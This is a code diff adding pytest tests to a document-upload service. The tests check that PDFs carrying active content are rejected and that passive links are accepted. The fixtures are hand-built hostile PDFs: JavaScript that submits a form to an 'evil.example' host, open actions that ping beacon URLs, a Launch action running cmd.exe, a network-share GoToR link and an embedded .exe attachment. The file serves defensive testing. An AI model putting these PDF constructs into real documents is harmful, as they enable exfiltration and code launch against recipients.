@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import pytest
 
+from tests.helpers import assert_error
 from tests.uploads.conftest import (
     document, image_bytes, pdf_bytes, png_header_only, sha256, stored_files, stored,
     upload_row,
@@ -208,3 +209,163 @@ def test_a_hand_written_pdf_within_the_limits_is_ready(app, tus):
                     3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"})
     doc, _row = finish(app, tus, data, "application/pdf")
     assert doc.status == "ready", doc.reason
+
+
+# ---- PDFs with active content (checks.active_content) ------------------------------------
+
+CATALOG, PAGES = b"/Type /Catalog /Pages 2 0 R", b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>"
+PAGE = b"/Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]"
+
+
+def hostile_pdf(catalog: bytes = b"", page: bytes = b"", annotation: bytes | None = None,
+                extra: dict[int, bytes] | None = None) -> bytes:
+    """A one-page PDF written by hand with `catalog` and `page` entries added, and one
+    annotation (object 4) on the page when given."""
+    annots = b" /Annots [4 0 R]" if annotation is not None else b""
+    objects = {1: b"<< " + CATALOG + b" " + catalog + b" >>", 2: PAGES,
+               3: b"<< " + PAGE + b" " + page + annots + b" >>"}
+    objects[4] = annotation if annotation is not None else b"<< /Type /Metadata >>"
+    objects.update(extra or {})
+    return raw_pdf(objects)
+
+
+def pypdf_pdf(change) -> bytes:
+    """A PDF made by pypdf's writer after `change(writer)` (its own ways of adding
+    JavaScript and attachments)."""
+    import io
+
+    from pypdf import PdfWriter
+
+    writer = PdfWriter()
+    writer.add_blank_page(width=595, height=842)
+    change(writer)
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    return buffer.getvalue()
+
+
+def pypdf_javascript(code: str):
+    from pypdf.actions import JavaScript
+
+    return JavaScript(code)
+
+
+LINK = b"<< /Type /Annot /Subtype /Link /Rect [10 10 200 40] /A "
+HOSTILE_PDFS = {
+    # The review's two: a script that runs on open and a JavaScript name tree.
+    "OpenAction and Names/JavaScript": hostile_pdf(
+        b"/OpenAction 5 0 R /Names << /JavaScript << /Names [(send) 6 0 R] >> >>",
+        extra={5: b"<< /Type /Action /S /JavaScript /JS (app.alert('Halo petugas');) >>",
+               6: b"<< /S /JavaScript /JS (this.submitForm('https://evil.example/x');) >>"}),
+    "Launch on open": hostile_pdf(
+        b"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>"),
+    "pypdf add_open_action(JavaScript)": pypdf_pdf(
+        lambda w: w.add_open_action(pypdf_javascript("this.print({bUI: false});"))),
+    "AA on the page opening a URI": hostile_pdf(
+        page=b"/AA << /O << /S /URI /URI (https://evil.example/beacon) >> >>"),
+    "AA on a widget running JS": hostile_pdf(
+        annotation=b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (nik) /Rect [0 0 9 9] "
+                   b"/AA << /K << /S /JavaScript /JS 5 0 R >> >> >>",
+        extra={5: b"<< /Length 9 >>\nstream\napp.beep\nendstream"}),
+    "JS action on a link": hostile_pdf(
+        annotation=LINK + b"<< /S /JavaScript /JS (app.launchURL('x')) >> >>"),
+    "a /JS key beside a harmless action": hostile_pdf(
+        annotation=LINK + b"<< /S /Named /N /NextPage /JS (app.alert(1)) >> >>"),
+    "SubmitForm on a link": hostile_pdf(
+        annotation=LINK + b"<< /S /SubmitForm /F << /FS /URL /F (https://evil.example) >> >> >>"),
+    "GoToR to a network share": hostile_pdf(
+        annotation=LINK + b"<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >> >>"),
+    "URI that opens by itself": hostile_pdf(
+        b"/OpenAction << /S /URI /URI (https://evil.example/opened) >>"),
+    "a chained action after a move": hostile_pdf(
+        b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (x.exe) >> >>"),
+    "RichMedia annotation": hostile_pdf(
+        annotation=b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] "
+                   b"/RichMediaContent << /Assets << /Names [] >> >> >>"),
+    "FileAttachment annotation": hostile_pdf(
+        annotation=b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] "
+                   b"/FS << /Type /Filespec /F (surat.exe) >> >>"),
+    "EmbeddedFiles (pypdf add_attachment)": pypdf_pdf(
+        lambda w: w.add_attachment("surat.exe", b"MZ\x90\x00 not really a program")),
+    "XFA form": hostile_pdf(b"/AcroForm << /Fields [] /XFA 5 0 R >>",
+                            extra={5: b"<< /Length 7 >>\nstream\n<xdp/>\nendstream"}),
+}
+
+
+@pytest.mark.parametrize("name", sorted(HOSTILE_PDFS))
+def test_pdfs_with_active_content_are_invalid(app, tus, name):
+    doc, row = finish(app, tus, HOSTILE_PDFS[name], "application/pdf")
+    assert_invalid(app, doc, row, "berisi skrip", "contains scripts")
+
+
+PASSIVE_PDFS = {
+    "a link the officer may click": hostile_pdf(
+        annotation=LINK + b"<< /S /URI /URI (https://dukcapil.kemendagri.go.id/) >> >>"),
+    "opening at a page": hostile_pdf(b"/OpenAction [3 0 R /Fit]"),
+    "an outline that moves": hostile_pdf(
+        b"/Outlines 5 0 R",
+        extra={5: b"<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>",
+               6: b"<< /Title (Halaman 1) /Parent 5 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>"}),
+}
+
+
+@pytest.mark.parametrize("name", sorted(PASSIVE_PDFS))
+def test_pdfs_with_passive_links_are_ready_and_kept_as_sent(app, tus, name):
+    """A link needs a click and shows its target; moving within the document is harmless.
+    Nothing is rewritten: the stored bytes are the citizen's own."""
+    data = PASSIVE_PDFS[name]
+    doc, row = finish(app, tus, data, "application/pdf")
+    assert doc.status == "ready", doc.reason
+    assert doc.sha256 == sha256(data) and stored(app, row).read_bytes() == data
+
+
+# ---- the pixel cap, and how many checks run at once ----------------------------------------
+
+def test_a_16_mp_phone_photo_is_ready_and_more_pixels_are_too_large(app, tus):
+    doc, row = finish(app, tus, png_header_only(4100, 4100), "image/png")  # 16.8 MP
+    assert_invalid(app, doc, row, "terlalu besar", "too large")
+    data = image_bytes("PNG", size=(4608, 3456), noise=False)  # a 16 MP camera's 15.9 MP
+    doc, row = finish(app, tus, data, "image/png")
+    assert doc.status == "ready", doc.reason
+    assert stored(app, row).read_bytes() == data
+
+
+def check_slots(app):
+    from server.uploads.routes import _check_slots
+
+    with app.test_request_context():
+        return _check_slots()
+
+
+def test_one_citizens_checks_run_one_at_a_time(app, tus, citizen):
+    """While one of the citizen's checks runs, their next upload's last piece is refused
+    (429, retry) and not recorded; sent again later, it completes."""
+    data = image_bytes("PNG", size=(64, 48))
+    url = tus.create(data).headers["Location"]
+    with check_slots(app).slot(str(citizen["id"])):  # a check of theirs is running
+        answer = tus.patch(url, 0, data)
+        error = assert_error(answer, 429, "upload_checks_busy")
+        assert error["details"] == {"retry_after": 5} and answer.headers["Retry-After"] == "5"
+        row = upload_row(app, url)
+        assert row.offset == 0 and row.completed_at is None and row.lock_token is None
+        assert document(app, row.document_id).status == "uploading"
+    assert tus.patch(url, 0, data).status_code == 204
+    assert document(app, row.document_id).status == "ready"
+
+
+def test_a_check_waits_for_a_free_slot_of_the_process_then_is_refused(app, tus):
+    import time
+
+    app.config.update(UPLOAD_CHECKS_PER_PROCESS=1, UPLOAD_CHECK_WAIT_SECONDS=0.3)
+    app.extensions.pop("upload_check_slots", None)
+    data = image_bytes("PNG", size=(64, 48))
+    url = tus.create(data).headers["Location"]
+    with check_slots(app).slot("another citizen"):  # the process's one slot is taken
+        started = time.monotonic()
+        answer = tus.patch(url, 0, data)
+        waited = time.monotonic() - started
+        assert_error(answer, 503, "upload_checks_busy")
+        assert waited >= 0.3 and answer.headers["Retry-After"] == "5"
+        assert upload_row(app, url).offset == 0
+    assert tus.patch(url, 0, data).status_code == 204
+    assert document(app, upload_row(app, url).document_id).status == "ready"
